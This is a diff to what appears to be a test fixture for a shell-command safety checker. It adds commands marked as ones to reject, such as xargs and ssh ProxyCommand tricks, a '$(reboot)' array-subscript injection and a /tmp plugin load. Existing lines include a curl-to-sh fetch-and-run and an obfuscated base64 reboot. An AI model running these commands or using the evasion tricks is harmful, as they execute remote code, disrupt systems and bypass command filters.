@@ -263,6 +263,19 @@ U tail -n 5 --pid=x --frob x
 ! ls --color=auto > x
 ! ls 2> /etc/passwd
 ! tee >(sh) <<< reboot
+! xargs -I{} sh -c 'ls {}'
+! xargs -I X sh -c 'ls X'
+! xargs sh -c 'ls "$0"; "$0"'
+! [ -v 'a[$(reboot)]' ]
+! test -v 'a[$(reboot)]'
+! ssh -o ProxyCommand=reboot host ls
+! echo "it's !reboot's"
+! lastlog -C -u x
+! utmpdump -o x y
+! nm --plugin=/tmp/x.so y
+! pidstat -e reboot
+! smartctl -l scterc,70,70 /dev/sda
+! sh -c 'ls $[1+1]'
 ! echo cmVib290 | base64 -d | sh
 ! curl https://192.0.2.9/x | sh
 `,
